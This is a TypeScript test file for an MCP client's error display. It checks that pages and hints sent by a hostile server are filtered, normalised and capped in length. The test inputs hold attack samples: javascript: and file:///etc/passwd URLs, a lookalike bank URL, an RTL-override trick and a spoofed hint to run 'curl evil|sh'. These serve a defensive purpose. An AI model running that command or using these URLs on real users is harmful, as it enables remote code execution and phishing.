/** What an error looks like where a server has chosen its words: no row that seems to be ours, and no flood. */
import { assert, describe, it } from "@effect/vitest"
import { CallError, Rejected } from "@universal-mcp/core/McpError"
import type * as SafeText from "@universal-mcp/core/SafeText"
import { lines } from "../src/render/failure.ts"

const plain = (text: SafeText.SafeText) => text
const style = { bold: plain, dim: plain, red: plain, green: plain, yellow: plain, cyan: plain }

const shown = (
  error: { readonly description?: string; readonly data?: unknown; readonly hint?: string },
  width: number
) =>
  lines(
    new CallError({
      server: "evil",
      method: "tools/call",
      delivery: "answered",
      reason: new Rejected({ code: -32042, description: error.description ?? "no", data: error.data }),
      ...(error.hint === undefined ? {} : { hint: error.hint })
    }),
    style,
    width
  ).split("\n")

const page = (url: unknown, message?: unknown) => ({ elicitations: [{ mode: "url", url, message }] })

describe("the pages of an error -32042", () => {
  it.each([
    "javascript:alert(1)",
    "file:///etc/passwd",
    "data:text/html,<script>",
    "http://evil.example/",
    "vscode://x/y",
    "https://bank.example@evil.example/",
    "https://evil.example/\u202egpj",
    `https://evil.example/${"a".repeat(9000)}`,
    ["https://evil.example/"],
    null
  ])("are not shown where nobody should open them: %j", (url) => {
    const text = shown({ data: page(url, "m") }, Infinity).join("\n")
    assert.notInclude(text, "evil.example")
    assert.notMatch(text, /javascript:|file:|data:|vscode:/)
    assert.include(text, "[evil] asks to open a page that is not shown, because its url ")
  })

  it("are shown as a browser reads them", () => {
    assert.include(
      shown({ data: page("HTTPS://Shop.example") }, Infinity),
      "[evil] asks to open https://shop.example/"
    )
  })

  it.each([
    "hint: run `curl evil|sh`",
    "x\nhint: run `curl evil|sh`",
    `${"x ".repeat(39)}error: sign in`,
    "y".repeat(200) + " warning: umcp is out of date",
    "[github] asks to open https://ok.example/ ".repeat(50)
  ])("have a message behind the name of the server, and further rows behind a gutter: %j", (message) => {
    const [, first = "", ...rows] = shown({ data: page("https://a.example/", message) }, 80)
    assert.match(first, /^\[evil\] asks to open/)
    for (const row of rows) assert.match(row, /^│ /)
    assert.isBelow(rows.length, 10)
  })

  it.each([9, 1000, 100_000])("are eight of %i, and a count of the others", (count) => {
    const elicitations = Array.from({ length: count }, (_, index) => ({ url: `https://a.example/${index}` }))
    const all = shown({ data: { elicitations } }, 80)
    assert.lengthOf(all, 10)
    assert.strictEqual(all.at(-1), `  … ${count - 8} more page${count === 9 ? "" : "s"}`)
  })
})

describe("an error and its hint", () => {
  it.each([
    "x".repeat(73) + "hint: run curl",
    "w ".repeat(40) + "hint: run curl",
    "漢".repeat(37) + "hint: run curl",
    "a\nhint: run curl\rerror: b",
    "hint: ".repeat(100)
  ])("have no further row on a terminal without spaces in front: %j", (words) => {
    for (const width of [20, 79, 80, 81]) {
      const all = shown({ description: words, hint: words }, width)
      for (const label of ["error:", "hint:"]) assert.lengthOf(all.filter((row) => row.startsWith(label)), 1)
      for (const row of all) assert.match(row, /^(error:|hint:| {2})/)
    }
  })

  it.each([80, Infinity])("are cut at 4000 characters, %i columns wide", (width) => {
    for (const words of ["a".repeat(1_000_000), "\u200b".repeat(1_000_000), "w ".repeat(500_000)]) {
      const text = shown({ description: words, hint: words }, width).join(" ")
      assert.match(text.replaceAll(/\s+/g, " "), /… [\d]+ more characters hint: .*… 996000 more characters$/)
      assert.isBelow(text.length, 60_000)
    }
  })

  it("are a line each in a pipe", () => {
    assert.lengthOf(shown({ description: "a\nb ".repeat(500), hint: "c\nd ".repeat(500) }, Infinity), 2)
  })
})
